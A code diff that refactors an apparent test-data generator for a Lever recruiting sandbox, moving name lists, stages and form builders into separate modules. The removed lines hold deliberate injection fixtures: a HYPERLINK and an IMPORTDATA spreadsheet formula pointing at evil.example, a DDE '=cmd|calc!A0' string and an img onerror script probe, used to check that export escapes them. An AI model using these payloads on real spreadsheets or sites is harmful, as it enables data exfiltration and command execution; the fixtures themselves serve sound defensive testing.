@@ -1,51 +1,11 @@
 import { Rng } from './random';
-import { CHILD_KINDS, type ChildKind, type Rec, type SandboxData, type Stage } from './types';
+import { CHILD_KINDS, type ChildKind, type Rec, type SandboxData } from './types';
+import { feedbackFields, formFields } from './forms';
+import { CITIES, COMPANIES, FIRST, HIRE, HOSTILE_NAMES, LAST, OFFER_STATUS, ORIGINS, SOURCES, STAGES, TEAMS, TITLES } from './vocabulary';
 
 const DAY = 86_400_000;
 
-export const HIRE = 'https://hire.sandbox.lever.co';
-
-/** Applicant-written strings that must reach the sheet as plain text, never as formulas or HTML. */
-export const HOSTILE_NAMES = [
-  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
-  '+1-555-0100',
-  '@SUM(A1:A9)',
-  '-2+3',
-  '=1+1',
-  'Dwayne "The Rock" Johnson',
-  'Comma, Person',
-  'Multi\nLine Name',
-  'Rocket 🚀 Emoji',
-  '<img src=x onerror=alert(1)>',
-  '\tTabbed Name',
-  'Trailing Spaces   ',
-  "'Quoted Start",
-  'TRUE',
-  '0012345',
-  'Garbled Ã©Ã¨ Name',
-];
-
-const FIRST = ['Dana', 'Ravi', 'Mei', 'Lucas', 'Amara', 'Jonas', 'Sofia', 'Kwame', 'Yuki', 'Elena', 'Omar', 'Priya', 'Liam', 'Zara', 'Mateo', 'Ines'];
-const LAST = ['Okafor', 'Patel', 'Chen', 'Silva', 'Mensah', 'Berg', 'Rossi', 'Asante', 'Tanaka', 'Novak', 'Haddad', 'Iyer', 'Walsh', 'Ahmed', 'Lopez', 'Costa'];
-const COMPANIES = ['Acme Corp', 'Globex', 'Initech', 'Umbrella', 'Hooli', 'Stark Industries', 'Wayne Enterprises', 'State University'];
-const CITIES = ['Lisbon', 'Berlin', 'New York', 'San Francisco', 'London', 'Toronto', 'Remote', ''];
-const TEAMS = ['Engineering', 'Sales', 'Design', 'People', 'Finance'];
-const TITLES = ['Backend Engineer', 'Account Executive', 'Product Designer', 'Recruiter', 'Financial Analyst', 'Data Scientist', 'Support Lead'];
-const SOURCES = ['LinkedIn', 'Referral', 'Company website', 'AngelList', 'Indeed', 'Agency'];
-const ORIGINS = ['agency', 'applied', 'internal', 'referred', 'sourced', 'university'];
-const OFFER_STATUS = ['draft', 'approval-sent', 'approved', 'sent', 'sent-manually', 'opened', 'denied', 'signed'];
-
-export const STAGES: Stage[] = [
-  { id: 'lead-new', text: 'New lead', pipeline: 'lead', rank: 0, hasInterview: false },
-  { id: 'lead-reached-out', text: 'Reached out', pipeline: 'lead', rank: 10, hasInterview: false },
-  { id: 'lead-responded', text: 'Responded', pipeline: 'lead', rank: 20, hasInterview: false },
-  { id: 'applicant-new', text: 'New applicant', pipeline: 'applicant', rank: 100, hasInterview: false },
-  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000001', text: 'Recruiter screen', pipeline: 'screen', rank: 200, hasInterview: true },
-  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000002', text: 'Phone interview', pipeline: 'screen', rank: 230.5, hasInterview: true },
-  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000003', text: 'On-site interview', pipeline: 'onsite', rank: 300, hasInterview: true },
-  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000004', text: 'Reference check', pipeline: 'onsite', rank: 350, hasInterview: false },
-  { id: 'offer', text: 'Offer', pipeline: 'offer', rank: 400, hasInterview: false },
-];
+export { HIRE, HOSTILE_NAMES, STAGES } from './vocabulary';
 
 export interface SeedOptions {
   seed: number;
@@ -115,7 +75,7 @@ export class Generator {
       children: Object.fromEntries(CHILD_KINDS.map((k) => [k, new Map<string, Rec[]>()])) as SandboxData['children'],
     };
     this.data.feedbackTemplates = [this.feedbackTemplate('Interview scorecard'), this.feedbackTemplate('Phone screen')];
-    this.data.formTemplates = [{ id: rng.uuid(), text: 'Candidate details', instructions: '', group: null, secretByDefault: false, fields: this.formFields(false), createdAt: this.now - 700 * DAY, updatedAt: this.now - 300 * DAY }];
+    this.data.formTemplates = [{ id: rng.uuid(), text: 'Candidate details', instructions: '', group: null, secretByDefault: false, fields: formFields(this.rng, (t) => this.fieldId(t), this.now, false), createdAt: this.now - 700 * DAY, updatedAt: this.now - 300 * DAY }];
     this.data.postings = Array.from({ length: Math.max(5, Math.ceil(count / 40)) }, () => this.posting());
     this.data.requisitions = this.data.postings.slice(0, 4).map((p, i) => this.requisition(p, i));
     for (let i = 0; i < count; i++) {
@@ -161,7 +121,7 @@ export class Generator {
       text,
       group: null,
       instructions: 'Rate the candidate',
-      fields: this.feedbackFields(false),
+      fields: feedbackFields(this.rng, (t) => this.fieldId(t), false),
       createdAt: this.now - 800 * DAY,
       updatedAt: this.now - 100 * DAY,
       stage: null,
@@ -320,7 +280,7 @@ export class Generator {
       links: opp.links,
       comments: rng.chance(0.3) ? 'I would love to join, see my portfolio.' : null,
       user: origin === 'applied' ? null : opp.owner,
-      customQuestions: rng.chance(0.5) ? [{ id: rng.uuid(), type: 'form', text: 'Application questions', fields: this.formFields(true) }] : [],
+      customQuestions: rng.chance(0.5) ? [{ id: rng.uuid(), type: 'form', text: 'Application questions', fields: formFields(this.rng, (t) => this.fieldId(t), this.now, true) }] : [],
       createdAt: opp.createdAt,
       archived: opp.archived,
       requisitionForHire: null,
@@ -330,37 +290,6 @@ export class Generator {
       acceptLanguage: 'en-US',
       timezone: 'Europe/Lisbon',
     };
-  }
-
-  private formFields(withValues: boolean): Rec[] {
-    const rng = this.rng;
-    const f = (type: string, text: string, value: unknown, extra: Rec = {}): Rec => ({
-      id: this.fieldId(text), type, text, description: '', required: false, ...extra, ...(withValues ? { value } : {}),
-    });
-    return [
-      f('text', 'Current company', rng.pick(COMPANIES)),
-      f('textarea', 'Why us?', rng.chance(0.1) ? '=IMPORTDATA("https://evil.example")' : 'Mission and people.'),
-      f('dropdown', 'Work authorization', 'Yes', { options: [{ text: 'Yes' }, { text: 'No' }] }),
-      f('multiple-select', 'Languages', ['English', 'Portuguese'], { options: [{ text: 'English' }, { text: 'Portuguese' }, { text: 'German' }] }),
-      f('yes-no', 'Open to relocate', rng.pick(['yes', 'no', null])),
-      f('date', 'Earliest start', this.now + rng.int(10, 90) * DAY),
-      f('currency', 'Salary expectation', rng.int(40, 120) * 1000, { currency: 'EUR' }),
-      f('multiple-choice', 'Preferred team', rng.pick(TEAMS), { options: TEAMS.map((t) => ({ text: t })) }),
-      f('university', 'University', rng.chance(0.6) ? 'State University' : null),
-      f('code', 'FizzBuzz', 'for (let i = 1; i <= 15; i++) console.log(i)', { language: 'javascript' }),
-      f('file-upload', 'Portfolio', rng.chance(0.5) ? { id: rng.uuid(), ext: 'pdf', name: 'portfolio.pdf', size: rng.int(1000, 90000), uploadedAt: this.now - DAY } : null),
-    ];
-  }
-
-  private feedbackFields(withValues: boolean): Rec[] {
-    const rng = this.rng;
-    const v = (x: unknown) => (withValues ? { value: x } : {});
-    return [
-      { id: this.fieldId('Overall rating'), type: 'score-system', text: 'Overall rating', required: true, options: ['Strong no hire', 'No hire', 'Hire', 'Strong hire'].map((t) => ({ text: t })), ...v(rng.pick(['Strong no hire', 'No hire', 'Hire', 'Strong hire'])) },
-      { id: this.fieldId('Communication'), type: 'score', text: 'Communication', required: false, ...v(rng.pick([1, 2, 3, 4, null])) },
-      { id: this.fieldId('Skills'), type: 'scorecard', text: 'Skills', required: false, scores: [{ text: 'Coding' }, { text: 'Design' }], ...v([{ score: rng.int(1, 4), comment: '' }, { score: rng.int(1, 4), comment: 'ok' }]) },
-      { id: this.fieldId('Notes'), type: 'textarea', text: 'Notes', required: false, ...v('Solid answers; =cmd|calc!A0 typed by the interviewer.') },
-    ];
   }
 
   /** Lever's anonymisation: personal fields emptied, the record kept. */
@@ -397,8 +326,8 @@ export class Generator {
     if (stageIdx >= STAGES.length - 1 || (opp.archived && rng.chance(0.1))) this.addOffer(opp, Math.min(latest, opp.lastAdvancedAt as number));
     if (rng.chance(0.7)) this.push('resumes', id, this.resume(opp));
     if (rng.chance(0.3)) this.push('files', id, { id: rng.uuid(), downloadUrl: `https://api.sandbox.lever.co/v1/opportunities/${id}/files/x/download`, ext: '.pdf', name: 'portfolio.pdf', uploadedAt: opp.createdAt, status: 'processed', size: rng.int(1000, 900000) });
-    if (rng.chance(0.4)) this.push('forms', id, { id: rng.uuid(), type: 'form', text: 'Candidate details', instructions: '', baseTemplateId: this.data.formTemplates[0].id, fields: this.formFields(true), user: opp.owner, stage: opp.stage, createdAt: opp.createdAt, completedAt: opp.createdAt, deletedAt: rng.chance(0.05) ? latest : null });
-    if (opp.origin === 'referred') this.push('referrals', id, { id: rng.uuid(), type: 'referral', text: 'Referral', instructions: '', fields: this.formFields(true).slice(0, 2), baseTemplateId: rng.uuid(), user: opp.owner, referrer: this.activeUser().id, stage: opp.stage, createdAt: opp.createdAt, completedAt: opp.createdAt });
+    if (rng.chance(0.4)) this.push('forms', id, { id: rng.uuid(), type: 'form', text: 'Candidate details', instructions: '', baseTemplateId: this.data.formTemplates[0].id, fields: formFields(this.rng, (t) => this.fieldId(t), this.now, true), user: opp.owner, stage: opp.stage, createdAt: opp.createdAt, completedAt: opp.createdAt, deletedAt: rng.chance(0.05) ? latest : null });
+    if (opp.origin === 'referred') this.push('referrals', id, { id: rng.uuid(), type: 'referral', text: 'Referral', instructions: '', fields: formFields(this.rng, (t) => this.fieldId(t), this.now, true).slice(0, 2), baseTemplateId: rng.uuid(), user: opp.owner, referrer: this.activeUser().id, stage: opp.stage, createdAt: opp.createdAt, completedAt: opp.createdAt });
   }
 
   addInterview(opp: Rec, at: number): Rec {
@@ -449,7 +378,7 @@ export class Generator {
       type: 'interview',
       text: template.text,
       instructions: template.instructions,
-      fields: this.feedbackFields(true),
+      fields: feedbackFields(this.rng, (t) => this.fieldId(t), true),
       baseTemplateId: template.id,
       interview: interview?.id ?? null,
       panel: interview?.panel ?? null,
